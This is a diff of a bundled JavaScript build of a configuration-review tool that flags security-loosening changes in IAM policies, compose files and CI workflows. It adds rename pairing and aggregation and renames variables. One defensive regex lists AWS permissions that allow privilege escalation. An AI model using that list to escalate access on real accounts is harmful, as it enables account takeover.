+    matchRenames = (removed3, added2) => matchKeys(removed3, added2).renamed;
+    isRival = (other, pair2) => other.from === pair2.from !== (other.to === pair2.to) && other.score > pair2.score - MARGIN;
+    isRespelled = (a, b3) => a !== b3 && wordsOf(a).join() === wordsOf(b3).join();
+    isTrivial = (text4) => /^(?:|true|false|yes|no|on|off|null|~|-?\d{1,2}|\[\]|\{\})$/i.test(text4);
+    LONGEST_NAME = 64;
+  }
+});
+
+// src/domains/config/aggregate.ts
+function aggregate(all) {
+  const facts = respelledTogether(all);
+  const subjects = /* @__PURE__ */ new Map();
+  for (const fact5 of facts) {
+    const known3 = subjects.get(causeOf(fact5)) ?? /* @__PURE__ */ new Set();
+    subjects.set(causeOf(fact5), known3.add(fact5.subject));
+  }
+  return facts.map((fact5) => (subjects.get(causeOf(fact5))?.size ?? 0) > 1 ? fact5 : withoutGroup(fact5));
+}
+function respelledTogether(facts) {
+  const respelled = facts.filter(isRespelling);
+  const names4 = groupedByPath(respelled);
+  const together3 = new Set(
+    [...names4.values()].filter((some2) => new Set(some2.map(({ from: from3 }) => from3)).size >= RESPELLED).flat()
+  );
+  return facts.map((fact5) => together3.has(fact5) ? { ...fact5, group: `${fact5.after?.path}#respelled` } : fact5);
+}
+function groupedByPath(facts) {
+  const groups2 = /* @__PURE__ */ new Map();
+  for (const fact5 of facts) {
+    const path26 = fact5.after?.path ?? "";
+    const group5 = groups2.get(path26);
+    if (group5) group5.push(fact5);
+    else groups2.set(path26, [fact5]);
+  }
+  return groups2;
+}
+function withoutGroup(fact5) {
+  const { group: _group, ...rest } = fact5;
+  return rest;
+}
+var RESPELLED, isRespelling, causeOf;
+var init_aggregate = __esm({
+  "src/domains/config/aggregate.ts"() {
+    "use strict";
+    init_renames();
+    RESPELLED = 3;
+    isRespelling = (fact5) => fact5.kind === "key-renamed" && fact5.stillRead === void 0 && !fact5.isPublic && isRespelled(fact5.from, fact5.to);
+    causeOf = (fact5) => `${fact5.kind} ${fact5.kind === "control-moved" ? fact5.control : ""} ${fact5.group ?? fact5.subject}`;
+  }
+});
+
+// src/domains/config/area.ts
+function areaOf(path26) {
+  if (TEST.test(path26) || CHART_TEST.test(path26)) return "test";
+  return PRODUCTION.test(path26) ? "production" : void 0;
+}
+var TEST, CHART_TEST, PRODUCTION;
+var init_area = __esm({
+  "src/domains/config/area.ts"() {
+    "use strict";
+    TEST = /(?:^|[/_.-])(?:tests?|testing|testdata|test-data|e2e|integration|examples?|samples?|demos?|docs?|fixtures?|mocks?|benchmarks?|hack|tutorials?|vendor|third_party|node_modules)(?:[/_.-]|$)/i;
+    CHART_TEST = /(?:^|\/)ci\/[\w.-]*values\.ya?ml$/;
+    PRODUCTION = /(?:^|[/_.-])(?:prod|production|prd|live)(?:[/_.-]|$)/i;
+  }
+});
+
+// src/domains/config/setting.ts
+function nameOf(path26) {
+  const [last2, above] = [path26.at(-1), path26.at(-2)];
+  if (last2 === void 0) return "";
+  if (last2.kind === "item") return last2.name ?? nameOf(path26.slice(0, -1));
+  if (above?.kind === "item" && last2.name === "value") return above.name ?? last2.name;
+  return above !== void 0 && SWITCHES.has(last2.name.toLowerCase()) ? `${nameOf(path26.slice(0, -1))}.${last2.name}` : unflagged(last2.name);
+}
+function tellingName({ name, keys, path: path26 }) {
+  const above = keys.at(-2);
+  return above !== void 0 && path26.at(-1)?.kind === "key" && COMMON.test(name) ? `${above}.${name}` : name;
+}
+function displayPath(path26) {
+  let shown5 = "";
+  for (const step3 of path26) {
+    if (step3.kind === "item") shown5 += `[${step3.label}]`;
+    else shown5 += shown5 === "" ? step3.name : `.${step3.name}`;
+  }
+  return shown5;
+}
+function subjectOf(document2, path26) {
+  const shown5 = displayPath(path26);
+  if (document2.title === void 0) return shown5 === "" ? document2.path : shown5;
+  return shown5 === "" ? document2.title : `${document2.title}: ${shown5}`;
+}
+function placesOf(setting) {
+  const { document: document2, before: before3, after: after2, ownerBefore, ownerAfter } = setting;
+  const old = place(document2.before?.path, before3 ?? (setting.owner === "kept" ? void 0 : ownerBefore));
+  const now = place(document2.after?.path, after2 ?? ownerAfter);
+  return { ...old && before3 ? { before: old } : {}, ...now ? { after: now } : {} };
+}
+var SWITCHES, COMMON, unflagged, place;
+var init_setting = __esm({
+  "src/domains/config/setting.ts"() {
+    "use strict";
+    SWITCHES = /* @__PURE__ */ new Set(["enabled", "enable", "enforce", "enforced", "mode", "required", "active", "level", "type"]);
+    COMMON = /^(?:cpu|memory|storage|ephemeral-storage|size|count|limit|min|max|host|port|path|url|address|user|name|key|value|version|timeout|interval|period|class|policy|strategy|provider)$/i;
+    unflagged = (name) => name.replace(/^-{1,2}(?:D(?=[a-z]))?/, "");
+    place = (path26, node2) => path26 === void 0 || node2 === void 0 ? void 0 : { path: path26, line: node2.line, ...node2.endLine > node2.line ? { endLine: node2.endLine } : {} };
+  }
+});
+
+// src/domains/config/context.ts
+function contextOf({ dialect: dialect26, area, isPublic }) {
+  return {
+    ...dialect26 === void 0 ? {} : { dialect: dialect26 },
+    ...area === void 0 ? {} : { area },
+    ...isPublic ? { isPublic } : {}
+  };
+}
+function whereabouts(setting, key4) {
+  const { document: document2, path: path26, keys } = setting;
+  const subject = subjectOf(document2, path26);
+  const last2 = path26.at(-1);
+  const tail2 = last2?.kind === "item" ? `${keys.at(-1) ?? ""}[${last2.label}]` : keys.slice(-2).join(".");
+  return {
+    subject,
+    key: key4,
+    group: `${tail2 || subject}#${key4}`,
+    ...placesOf(setting),
+    ...contextOf(document2)
+  };
+}
+var init_context = __esm({
+  "src/domains/config/context.ts"() {
+    "use strict";
+    init_setting();
+  }
+});
+
+// src/domains/config/fact-at.ts
+function factAt(pair2, path26, key4, { before: before3, after: after2 }) {
+  const [old, now] = [place(pair2.before?.path, before3), place(pair2.after?.path, after2)];
+  return {
+    subject: subjectOf(pair2, path26),
+    key: key4,
+    ...contextOf(pair2),
+    ...old ? { before: old } : {},
+    ...now ? { after: now } : {}
+  };
+}
+var key;
+var init_fact_at = __esm({
+  "src/domains/config/fact-at.ts"() {
+    "use strict";
+    init_context();
+    init_setting();
+    key = (name) => ({ kind: "key", name });
   }
 });
 
@@ -13943,16 +14243,16 @@ function shrinks(keys) {
 function reviewSettingsFacts(pair2) {
   const [before3, after2] = [pair2.before?.root, pair2.after?.root];
   if (before3 !== void 0 && after2 !== void 0 && signature(before3) === signature(after2)) return [];
-  const fact5 = (keys, way, said13 = WHOLE) => ({
+  const fact5 = (keys, way, said14 = WHOLE) => ({
     kind: "review-settings-changed",
     ...factAt(pair2, keys.map(key), way, { before: at(before3, ...keys), after: after2 && nearestTo(after2, keys) }),
     way,
     name: keys.join("."),
-    ...said13
+    ...said14
   });
   if (after2 === void 0) return [fact5([], "removed")];
   const looser = LOOKS.flatMap((look) => look(before3, after2));
-  if (looser.length > 0) return looser.map(({ keys, ...said13 }) => fact5(keys, "loosened", said13));
+  if (looser.length > 0) return looser.map(({ keys, ...said14 }) => fact5(keys, "loosened", said14));
   return [fact5([], before3 === void 0 ? "new" : "edited")];
 }
 var LOOSER, rankOf2, LOOKS, missingFrom, listed4, nearestTo, WHOLE;
@@ -14000,10 +14300,10 @@ var init_breakwater = __esm({
     WAIVERS = ".github/breakwater-waivers.yml";
     breakwater_default = {
       name: "breakwater",
-      recognises: ({ path: path25 }) => path25 === SETTINGS || path25 === WAIVERS,
-      identity: ({ path: path25 }) => path25,
+      recognises: ({ path: path26 }) => path26 === SETTINGS || path26 === WAIVERS,
+      identity: ({ path: path26 }) => path26,
       owns: () => true,
-      facts: (pairs) => pairs.filter(({ path: path25 }) => path25 === SETTINGS).flatMap(reviewSettingsFacts)
+      facts: (pairs) => pairs.filter(({ path: path26 }) => path26 === SETTINGS).flatMap(reviewSettingsFacts)
     };
   }
 });
@@ -14016,7 +14316,7 @@ function widened(base, head) {
   if (known3.length * fresh.length > MOST_COMPARISONS) return fresh;
   return fresh.filter((grant) => !known3.some((wider) => covers(wider, grant)));
 }
-function holds(outer, inner) {
+function holds2(outer, inner) {
   const [first = "", ...rest] = outer.split("*");
   const last2 = rest.pop();
   if (last2 === void 0) return outer === inner;
@@ -14049,7 +14349,7 @@ var init_iam = __esm({
       (principal) => actions2.flatMap((action2) => resources.map((resource3) => ({ principal, action: action2, resource: resource3, condition: condition2, line: line2 })))
     );
     keyOf2 = ({ principal, action: action2, resource: resource3, condition: condition2 }) => JSON.stringify([principal, action2.toLowerCase(), resource3, condition2]);
-    covers = (wider, grant) => (wider.condition === "" || wider.condition === grant.condition) && (wider.principal === "*" || wider.principal === grant.principal) && holds(wider.action.toLowerCase(), grant.action.toLowerCase()) && holds(wider.resource, grant.resource);
+    covers = (wider, grant) => (wider.condition === "" || wider.condition === grant.condition) && (wider.principal === "*" || wider.principal === grant.principal) && holds2(wider.action.toLowerCase(), grant.action.toLowerCase()) && holds2(wider.resource, grant.resource);
     ESCALATES = /^(?:iam:(?:passrole|createuser|createrole|addusertogroup|create[a-z]*policy[a-z]*|attach[a-z]*policy|put[a-z]*policy|createaccesskey|createloginprofile|updateassumerolepolicy)|sts:assumerole|lambda:updatefunctioncode)$/;
   }
 });
@@ -14060,8 +14360,8 @@ var init_setting_paths = __esm({
   "src/domains/config/setting-paths.ts"() {
     "use strict";
     endsWith = (keys, tail2) => tail2.every((name, i) => keys[keys.length - tail2.length + i] === name);
-    atEnd = (...tail2) => ({ keys, path: path25 }) => endsWith(keys, tail2) && path25.at(-1)?.kind !== "item";
-    either = (...places) => (setting) => places.some((holds5) => holds5(setting));
+    atEnd = (...tail2) => ({ keys, path: path26 }) => endsWith(keys, tail2) && path26.at(-1)?.kind !== "item";
+    either = (...places) => (setting) => places.some((holds6) => holds6(setting));
   }
 });
 
@@ -14072,9 +14372,9 @@ function isTemplate({ root }) {
   return resources.length > 0 && resources.every(([, node2]) => /^(?:AWS|Custom|Alexa)::/.test(textAt(node2, "Type") ?? ""));
 }
 function isProperty(properties) {
-  const rows = properties.map(([type, path25]) => ({ type, keys: path25.split(".") }));
-  return ({ keys, path: path25, document: document2 }) => {
-    if (keys[0] !== "Resources" || keys[2] !== "Properties" || path25.at(-1)?.kind === "item") return false;
+  const rows = properties.map(([type, path26]) => ({ type, keys: path26.split(".") }));
+  return ({ keys, path: path26, document: document2 }) => {
+    if (keys[0] !== "Resources" || keys[2] !== "Properties" || path26.at(-1)?.kind === "item") return false;
     const root = document2.after?.root ?? document2.before?.root;
     const type = textAt(root, "Resources", keys[1] ?? "", "Type");
     return rows.some((row3) => row3.type === type && keys.length === 3 + row3.keys.length && endsWith(keys, row3.keys));
@@ -14109,7 +14409,7 @@ function policyFacts(pair2) {
   });
 }
 function compareDocuments(documents) {
-  const { pair: pair2, name, path: path25, before: before3, after: after2, isNew: isNew2 } = documents;
+  const { pair: pair2, name, path: path26, before: before3, after: after2, isNew: isNew2 } = documents;
   const [base, head] = [statementsOf(before3), statementsOf(after2)];
   const gained = widened(allowed(base), allowed(head));
   const freed2 = isNew2 ? [] : widened(denied(head), denied(base));
@@ -14123,15 +14423,15 @@ function compareDocuments(documents) {
   const [lifted] = freed2;
   if (lifted !== void 0) return [widening(documents, lifted, { by: "deny", gained: freed2.length })];
   const lost = isNew2 ? [] : [...widened(allowed(head), allowed(base)), ...widened(denied(base), denied(head))];
-  const where = factAt(pair2, path25.map(key), "narrowed", { before: before3, after: after2 });
+  const where = factAt(pair2, path26.map(key), "narrowed", { before: before3, after: after2 });
   return lost.length === 0 ? [] : [{ kind: "policy-narrowed", ...where, resource: name, lost: lost.length }];
 }
-function widening({ pair: pair2, name, path: path25, before: before3, after: after2, isNew: isNew2 }, { principal, action: action2, resource: resource3, condition: condition2, line: line2 }, how) {
+function widening({ pair: pair2, name, path: path26, before: before3, after: after2, isNew: isNew2 }, { principal, action: action2, resource: resource3, condition: condition2, line: line2 }, how) {
   const place5 = how.by === "deny" ? { before: before3, after: after2 } : { before: before3, after: after2 && { ...after2, line: line2, endLine: line2 } };
   const told4 = `${how.by} ${principal} ${action2} ${resource3}`;
   return {
     kind: "policy-widened",
-    ...factAt(pair2, path25.map(key), told4, place5),
+    ...factAt(pair2, path26.map(key), told4, place5),
     resource: name,
     principal,
     action: action2,
@@ -14200,7 +14500,7 @@ var init_policies = __esm({
       ...TRUST
     ]);
     isPolicySetting = ({ keys }) => keys[0] === "Resources" && keys[2] === "Properties" && POLICIES.has(keys[3] ?? "");
-    comparePolicies = (pair2, { name, path: path25 }, before3, after2) => compareDocuments({ pair: pair2, name, path: path25, before: before3, after: after2, isNew: pair2.before === void 0 });
+    comparePolicies = (pair2, { name, path: path26 }, before3, after2) => compareDocuments({ pair: pair2, name, path: path26, before: before3, after: after2, isNew: pair2.before === void 0 });
     allowed = (statements) => statements.filter(({ effect }) => effect === "Allow");
     denied = (statements) => statements.filter(({ effect }) => effect === "Deny");
     WORST = ["public", "admin", "service", "escalation", "plain"];
@@ -14262,10 +14562,10 @@ var init_stacks = __esm({
         return name === void 0 ? [] : [[name, output2]];
       })
     );
-    fact = (pair2, path25, said13, sides) => ({
+    fact = (pair2, path26, said14, sides) => ({
       kind: "stack-changed",
-      ...factAt(pair2, path25.map(key), `${said13.what} ${said13.name}`, sides),
-      ...said13
+      ...factAt(pair2, path26.map(key), `${said14.what} ${said14.name}`, sides),
+      ...said14
     });
   }
 });
@@ -14340,10 +14640,10 @@ var init_capabilities = __esm({
 });
 
 // src/domains/config/effective.ts
-function effectiveSetting({ document: document2, before: before3, after: after2 }, name, path25, sides) {
+function effectiveSetting({ document: document2, before: before3, after: after2 }, name, path26, sides) {
   return {
     document: document2,
-    path: path25,
+    path: path26,
     keys: [EFFECTIVE, name],
     name,
     before: sides.before,
@@ -14390,35 +14690,108 @@ var init_effective = __esm({
       depth: 1
     });
     byCapability = (nodes) => new Map(nodes.flatMap((node2) => node2.kind === "scalar" && !isDynamic(node2) ? [[capability(node2.text), node2]] : []));
-    uncoveredPaths = (known3, fresh) => fresh.filter(({ path: path25 }) => !known3.some((wider) => path25 === wider.path || isBelow(path25, wider.path)));
-    isBelow = (path25, directory) => path25.startsWith(`${directory.replace(/\/$/, "")}/`);
+    uncoveredPaths = (known3, fresh) => fresh.filter(({ path: path26 }) => !known3.some((wider) => path26 === wider.path || isBelow(path26, wider.path)));
+    isBelow = (path26, directory) => path26.startsWith(`${directory.replace(/\/$/, "")}/`);
+  }
+});
+
+// src/core/compare.ts
+function compare(before3, after2, identity) {
+  const matched = commonStart(before3, after2, identity);
+  const waiting = /* @__PURE__ */ new Map();
+  for (const item2 of before3.slice(matched.length)) {
+    const key4 = identity(item2);
+    const queue = waiting.get(key4);
+    if (queue) queue.push(item2);
+    else waiting.set(key4, [item2]);
+  }
+  const added2 = [];
+  const partner = /* @__PURE__ */ new Map();
+  for (const item2 of after2.slice(matched.length)) {
+    const match2 = waiting.get(identity(item2))?.shift();
+    if (match2 === void 0) added2.push(item2);
+    else partner.set(match2, item2);
+  }
+  const removed3 = [];
+  for (const item2 of before3.slice(matched.length)) {
+    const partnered = partner.get(item2);
+    if (partnered === void 0) removed3.push(item2);
+    else matched.push({ before: item2, after: partnered });
+  }
+  return { added: added2, removed: removed3, matched };
+}
+function commonStart(before3, after2, identity) {
+  const pairs = [];
+  for (const item2 of before3) {
+    const other = after2[pairs.length];
+    if (other === void 0 || identity(item2) !== identity(other)) break;
+    pairs.push({ before: item2, after: other });
+  }
+  return pairs;
+}
+var init_compare = __esm({
+  "src/core/compare.ts"() {
+    "use strict";
+  }
+});
+
+// src/domains/config/pairing.ts
+function pairByLikeness(before3, after2, nodeOf2, least) {
+  const few = before3.length * after2.length <= MOST_COMPARISONS2;
+  const candidates = (few ? before3 : []).flatMap((old) => after2.map((now) => ({ old, now, score: likeness(nodeOf2(old), nodeOf2(now)) }))).filter(({ score: score2 }) => score2 >= least);
+  const taken2 = /* @__PURE__ */ new Set();
+  const partners = /* @__PURE__ */ new Map();
+  for (const { old, now } of candidates.toSorted((a, b3) => b3.score - a.score)) {
+    if (taken2.has(old) || partners.has(now)) continue;
+    taken2.add(old);
+    partners.set(now, old);
+  }
+  return [
+    ...after2.map((now) => withPartner(now, partners.get(now))),
+    ...before3.filter((old) => !taken2.has(old)).map((old) => ({ before: old }))
+  ];
+}
+function pairNamed(before3, after2) {
+  const { matched, removed: removed3, added: added2 } = compare(before3, after2, ({ name }) => name);
+  const old = new Map(matched.map((pair2) => [pair2.after, pair2.before]));
+  for (const pair2 of pairByLikeness(removed3, added2, ({ node: node2 }) => node2, RENAMED))
+    if (pair2.before && pair2.after) old.set(pair2.after, pair2.before);
+  return after2.map((now) => ({ before: old.get(now), after: now }));
+}
+var MOST_COMPARISONS2, withPartner, RENAMED;
+var init_pairing = __esm({
+  "src/domains/config/pairing.ts"() {
+    "use strict";
+    init_compare();
+    init_likeness();
+    MOST_COMPARISONS2 = 1e4;
+    withPartner = (after2, before3) => before3 === void 0 ? { after: after2 } : { before: before3, after: after2 };
+    RENAMED = 0.6;
   }
 });
 
 // src/domains/config/compose/model.ts
-function isCompose({ path: path25, root }) {
+function isCompose({ path: path26, root }) {
   const services = entriesOf(at(root, "services"));
   if (services.length === 0 || at(root, "apiVersion") !== void 0) return false;
-  return NAME.test(path25) || services.every(([, node2]) => SERVICE_KEYS.some((name) => at(node2, name) !== void 0));
-}
-function servicePairs(document2) {
-  const base = new Map(servicesOf(document2.before).map((service6) => [service6.name, service6]));
-  return servicesOf(document2.after).map((after2) => ({ document: document2, before: base.get(after2.name), after: after2 }));
+  return NAME.test(path26) || services.every(([, node2]) => SERVICE_KEYS.some((name) => at(node2, name) !== void 0));
 }
 function usersOfVolume({ before: before3, after: after2 }, volume4) {
   const still = new Set(servicesOf(after2).map(({ name }) => name));
   const mounts = (mount2) => textAt(mount2, "source") === volume4 || textsOf(mount2).some((text4) => text4.startsWith(`${volume4}:`));
   return servicesOf(before3).filter(({ name, node: node2 }) => still.has(name) && itemsAt(node2, "volumes").some(mounts)).map(({ name }) => name);
 }
-var NAME, SERVICE_KEYS, servicesOf, servicePath, inService;
+var NAME, SERVICE_KEYS, servicesOf, servicePairs, servicePath, inService;
 var init_model2 = __esm({
   "src/domains/config/compose/model.ts"() {
     "use strict";
     init_fact_at();
+    init_pairing();
     init_tree();
     NAME = /(?:^|\/)(?:docker-)?compose[^/]*\.ya?ml$/;
     SERVICE_KEYS = ["image", "build", "extends"];
     servicesOf = (document2) => entriesOf(at(document2?.root, "services")).map(([name, node2]) => ({ name, node: node2 }));
+    servicePairs = (document2) => pairNamed(servicesOf(document2.before), servicesOf(document2.after)).map((pair2) => ({ document: document2, ...pair2 }));
     servicePath = ({ name }, ...below7) => ["services", name, ...below7].map(key);
     inService = (...tail2) => ({ keys, document: document2 }) => document2.dialect === "compose" && keys.length === 2 + tail2.length && keys[0] === "services" && tail2.every((name, i) => keys[2 + i] === name);
   }
@@ -14426,11 +14799,11 @@ var init_model2 = __esm({
 
 // src/domains/config/compose/effective.ts
 function ports(pair2) {
-  const path25 = servicePath(pair2.after, "ports");
+  const path26 = servicePath(pair2.after, "ports");
   const [before3, after2] = [publishedBy(pair2.before), publishedBy(pair2.after)];
   const widened3 = after2.filter(({ isLocal: isLocal4 }) => !isLocal4).filter(({ port }) => !before3.some((old) => old.port === port && !old.isLocal)).map(({ port, node: node2 }) => ({ before: before3.find((old) => old.port === port)?.node, after: node2 }));
   const narrowed = before3.filter(({ port, isLocal: isLocal4 }) => !isLocal4 && !after2.some((now) => now.port === port && !now.isLocal)).map(({ port, node: node2 }) => ({ before: node2, after: after2.find((now) => now.port === port)?.node }));
-  return [...widened3, ...narrowed].map((sides) => effectiveSetting(pair2, "ports", path25, sides));
+  return [...widened3, ...narrowed].map((sides) => effectiveSetting(pair2, "ports", path26, sides));
 }
 function longPort(node2) {
   const port = textAt(node2, "published");
@@ -14448,7 +14821,7 @@ function shortPort(node2) {
   return [{ port: `${port}/${protocol}`, isLocal: isLoopback(address), node: derived(node2, node2.text) }];
 }
 function binds(pair2) {
-  const path25 = servicePath(pair2.after, "volumes");
+  const path26 = servicePath(pair2.after, "volumes");
   const [before3, after2] = [bindsOf(pair2.before), bindsOf(pair2.after)];
   const writable = after2.flatMap((now) => {
     const old = before3.find((each) => each.path === now.path);
@@ -14456,11 +14829,11 @@ function binds(pair2) {
       before: derived(old.node, String(old.isReadOnly)),
       after: derived(now.node, String(now.isReadOnly))
     };
-    return sides ? [effectiveSetting(pair2, "hostPath.readOnly", path25, sides)] : [];
+    return sides ? [effectiveSetting(pair2, "hostPath.readOnly", path26, sides)] : [];
   });
   return [
-    ...uncoveredPaths(before3, after2).map((bind) => effectiveSetting(pair2, "hostPath", path25, { after: mounted(bind) })),
-    ...uncoveredPaths(after2, before3).map((bind) => effectiveSetting(pair2, "hostPath", path25, { before: mounted(bind) })),
+    ...uncoveredPaths(before3, after2).map((bind) => effectiveSetting(pair2, "hostPath", path26, { after: mounted(bind) })),
+    ...uncoveredPaths(after2, before3).map((bind) => effectiveSetting(pair2, "hostPath", path26, { before: mounted(bind) })),
     ...writable
   ];
 }
@@ -14505,12 +14878,12 @@ var init_effective2 = __esm({
     mounted = (bind) => derived(bind.node, bind.path);
     bindsOf = (service6) => itemsAt(service6?.node, "volumes").flatMap((node2) => {
       if (node2.kind === "map") {
-        const path26 = textAt(node2, "source") ?? "";
-        return path26.startsWith("/") ? [{ path: path26, isReadOnly: switchOf(at(node2, "read_only")) === true, node: node2 }] : [];
+        const path27 = textAt(node2, "source") ?? "";
+        return path27.startsWith("/") ? [{ path: path27, isReadOnly: switchOf(at(node2, "read_only")) === true, node: node2 }] : [];
       }
       if (node2.kind !== "scalar" || isDynamic(node2) || !node2.text.startsWith("/")) return [];
-      const [path25 = "", target, mode = ""] = node2.text.split(":");
-      return target === void 0 ? [] : [{ path: path25, isReadOnly: mode.split(",").includes("ro"), node: node2 }];
+      const [path26 = "", target, mode = ""] = node2.text.split(":");
+      return target === void 0 ? [] : [{ path: path26, isReadOnly: mode.split(",").includes("ro"), node: node2 }];
     });
     isUnnamed = (node2) => node2.kind === "map" ? textAt(node2, "type") === "volume" && textAt(node2, "source") === void 0 : node2.kind === "scalar" && /^\/[^:]*$/.test(node2.text);
     isNamed = (node2) => node2.kind === "map" ? textAt(node2, "type") === "volume" && textAt(node2, "source") !== void 0 : node2.kind === "scalar" && /^[\w-]+:\//.test(node2.text);
@@ -14561,8 +14934,8 @@ var init_model3 = __esm({
     "use strict";
     init_fact_at();
     init_tree();
-    isWorkflow = ({ root, path: path25 }) => at(root, "jobs")?.kind === "map" && (at(root, "on") !== void 0 || /(?:^|\/)\.github\/workflows\//.test(path25));
-    isAction = ({ root, path: path25 }) => /(?:^|\/)action\.ya?ml$/.test(path25) && at(root, "runs", "using") !== void 0;
+    isWorkflow = ({ root, path: path26 }) => at(root, "jobs")?.kind === "map" && (at(root, "on") !== void 0 || /(?:^|\/)\.github\/workflows\//.test(path26));
+    isAction = ({ root, path: path26 }) => /(?:^|\/)action\.ya?ml$/.test(path26) && at(root, "runs", "using") !== void 0;
     jobsOf = (document2) => entriesOf(at(document2?.root, "jobs")).map(([name, node2]) => ({ name, node: node2, steps: stepsOf(node2) }));
     allSteps = (document2) => [
       ...jobsOf(document2).flatMap(({ steps: steps3 }) => steps3),
@@ -14591,9 +14964,9 @@ function reviewFacts(pairs) {
     return ways.length > 0 ? ways : edited(pair2, old, same);
   });
 }
-function fact2(pair2, path25, said13, sides) {
-  const { job: job4, way, value = "" } = said13;
-  return { kind: "review-weakened", ...factAt(pair2, path25, way, sides), job: job4, way, value };
+function fact2(pair2, path26, said14, sides) {
+  const { job: job4, way, value = "" } = said14;
+  return { kind: "review-weakened", ...factAt(pair2, path26, way, sides), job: job4, way, value };
 }
 function triggerWays(pair2, { name: job4 }) {
   const [had, has2] = [triggersOf(pair2.before), triggersOf(pair2.after)];
@@ -14614,11 +14987,11 @@ function jobWays(pair2, old, now) {
     { ...stepSides(old, now), path: [...jobPath(now.name), key("steps")] }
   ];
   return holders2.flatMap(
-    ({ before: before3, after: after2, path: path25 }) => WEAKNESSES.flatMap(({ way, keys, isWeak }) => {
+    ({ before: before3, after: after2, path: path26 }) => WEAKNESSES.flatMap(({ way, keys, isWeak }) => {
       const [was, is2] = [at(before3, ...keys), at(after2, ...keys)];
       if (is2 === void 0 || !isWeak(is2) || was !== void 0 && signature(was) === signature(is2)) return [];
       const value = is2.kind === "scalar" ? is2.text : "";
-      return [fact2(pair2, [...path25, ...keys.map(key)], { job: now.name, way, value }, { before: was, after: is2 })];
+      return [fact2(pair2, [...path26, ...keys.map(key)], { job: now.name, way, value }, { before: was, after: is2 })];
     })
   );
 }
@@ -14658,46 +15031,6 @@ var init_workflows = __esm({
     });
     REACHING = ["on", "permissions", "env", "defaults", "concurrency"];
     reach = (document2, { node: node2 }) => [node2, ...REACHING.map((name) => at(document2?.root, name))].map((each) => each && signature(each)).join("\n");
-  }
-});
-
-// src/core/compare.ts
-function compare(before3, after2, identity) {
-  const matched = commonStart(before3, after2, identity);
-  const waiting = /* @__PURE__ */ new Map();
-  for (const item2 of before3.slice(matched.length)) {
-    const key4 = identity(item2);
-    const queue = waiting.get(key4);
-    if (queue) queue.push(item2);
-    else waiting.set(key4, [item2]);
-  }
-  const added2 = [];
-  const partner = /* @__PURE__ */ new Map();
-  for (const item2 of after2.slice(matched.length)) {
-    const match2 = waiting.get(identity(item2))?.shift();
-    if (match2 === void 0) added2.push(item2);
-    else partner.set(match2, item2);
-  }
-  const removed3 = [];
-  for (const item2 of before3.slice(matched.length)) {
-    const partnered = partner.get(item2);
-    if (partnered === void 0) removed3.push(item2);
-    else matched.push({ before: item2, after: partnered });
-  }
-  return { added: added2, removed: removed3, matched };
-}
-function commonStart(before3, after2, identity) {
-  const pairs = [];
-  for (const item2 of before3) {
-    const other = after2[pairs.length];
-    if (other === void 0 || identity(item2) !== identity(other)) break;
-    pairs.push({ before: item2, after: other });
-  }
-  return pairs;
-}
-var init_compare = __esm({
-  "src/core/compare.ts"() {
-    "use strict";
   }
 });
 
@@ -14831,12 +15164,11 @@ function tokenFacts(pair2) {
   });
 }
 function pairJobs(before3, after2) {
-  const { matched, removed: removed3, added: added2 } = compare(before3, after2, ({ name }) => name);
-  const [gone7] = removed3.length === 1 && added2.length === 1 ? removed3 : [];
-  return [
-    ...matched.map((both2) => ({ old: both2.before, job: both2.after })),
-    ...added2.map((job4) => ({ old: gone7, job: job4 }))
-  ];
+  const pairs = pairNamed(before3, after2);
+  const added2 = pairs.filter((pair2) => pair2.before === void 0);
+  const gone7 = before3.filter((old) => !pairs.some((pair2) => pair2.before === old));
+  const [only] = gone7.length === 1 && added2.length === 1 ? gone7 : [];
+  return pairs.map((pair2) => ({ old: pair2.before ?? only, job: pair2.after }));
 }
 function jobFacts(jobs) {
   const { before: before3, after: after2, isNew: isNew2 } = jobs;
@@ -14876,9 +15208,9 @@ function said({ others, scopes }) {
   return [...scopes].map(([scope2, level2]) => `${scope2}: ${level2}`).join(", ") || "{}";
 }
 function whereOf({ pair: pair2, job: job4, before: before3 }, change2, after2) {
-  const path25 = isOfJob(job4) ? jobPath(job4.name, "permissions") : [key("permissions")];
+  const path26 = isOfJob(job4) ? jobPath(job4.name, "permissions") : [key("permissions")];
   return {
-    ...factAt(pair2, path25, change2, { before: before3.node, after: after2 }),
+    ...factAt(pair2, path26, change2, { before: before3.node, after: after2 }),
     group: `${pair2.path}: permissions#${change2}`
   };
 }
@@ -14895,10 +15227,10 @@ var NOTHING, saysMore, isOfJob;
 var init_permissions = __esm({
   "src/domains/config/workflows/permissions.ts"() {
     "use strict";
-    init_compare();
     init_workflow_permissions();
     init_fact_at();
     init_tree();
+    init_pairing();
     init_model3();
     init_triggers();
     NOTHING = { others: "none", scopes: /* @__PURE__ */ new Map() };
@@ -15051,11 +15383,11 @@ var init_model4 = __esm({
       "workflow"
     ]);
     WORK = ["script", "trigger", "extends", "run"];
-    isPipeline = ({ path: path25, root }) => /(?:^|\/)(?:[\w.-]*\.)?gitlab-ci[\w.-]*\.ya?ml$/.test(path25) || /(?:^|\/)\.gitlab\//.test(path25) && hasJobs(root);
+    isPipeline = ({ path: path26, root }) => /(?:^|\/)(?:[\w.-]*\.)?gitlab-ci[\w.-]*\.ya?ml$/.test(path26) || /(?:^|\/)\.gitlab\//.test(path26) && hasJobs(root);
     hasJobs = (root) => entriesOf(root).some(([name, node2]) => !GLOBAL.has(name) && WORK.some((key4) => at(node2, key4) !== void 0));
     isJob = (name, { root }) => !GLOBAL.has(name) && at(root, name)?.kind === "map";
-    inJob = (...tail2) => ({ keys, path: path25, document: document2 }) => {
-      if (path25.at(-1)?.kind === "item") return false;
+    inJob = (...tail2) => ({ keys, path: path26, document: document2 }) => {
+      if (path26.at(-1)?.kind === "item") return false;
       const owner = document2.after ?? document2.before;
       const isOfJob2 = owner !== void 0 && (keys[0] === "default" || isJob(keys[0] ?? "", owner));
       return isOfJob2 && keys.length === 1 + tail2.length && tail2.every((name, i) => keys[1 + i] === name);
@@ -15087,7 +15419,7 @@ var init_helm_values = __esm({
     init_tree();
     helm_values_default = {
       name: "helm-values",
-      recognises: ({ path: path25, root }) => /(?:^|\/)values[\w.-]*\.ya?ml$/.test(path25) && root.kind === "map" && at(root, "kind") === void 0,
+      recognises: ({ path: path26, root }) => /(?:^|\/)values[\w.-]*\.ya?ml$/.test(path26) && root.kind === "map" && at(root, "kind") === void 0,
       /** Every block belongs to a part that can be left out. */
       isObject: () => true
     };
@@ -15095,13 +15427,14 @@ var init_helm_values = __esm({
 });
 
 // src/domains/config/kubernetes/objects.ts
-var API_VERSION, isObject, kindOf, groupOf, nameOf2, namespaceOf, POD_PATHS, podPathOf;
